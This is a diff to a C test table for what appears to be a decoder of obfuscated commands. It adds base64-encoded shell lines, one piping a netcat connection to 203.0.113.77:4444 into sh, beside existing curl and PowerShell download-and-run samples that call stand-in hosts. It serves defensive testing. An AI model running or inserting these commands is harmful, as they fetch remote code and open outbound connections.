@@ -41,6 +41,10 @@ static const struct {
 	  "pwsh -ec \"iwr http://127.0.0.1/\"" },
 	{ "sh -c 'echo Y3VybCAtTyBodHRwOi8vYS5leGFtcGxlLw== | base64 -d | sh'",
 	  "sh -c 'echo curl -O http://a.example/ | base64 -d | sh'" },
+	{ "sh -c 'echo bmMgMjAzLjAuMTEzLjc3IDQ0NDQgPiAvdG1wL2I= | base64 -d | sh'",
+	  "sh -c 'echo nc 203.0.113.77 4444 > /tmp/b | base64 -d | sh'" },
+	{ "echo MjAzLjAuMTEzLjc3IDQ0NDQgMjAzLjAuMTEzLjc3 | base64 -d",
+	  "echo MjAzLjAuMTEzLjc3IDQ0NDQgMjAzLjAuMTEzLjc3 | base64 -d" },
 	{ "iex "
 	  "([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHA6Ly9hLmV4YW1w"
 	  "bGUv')))",
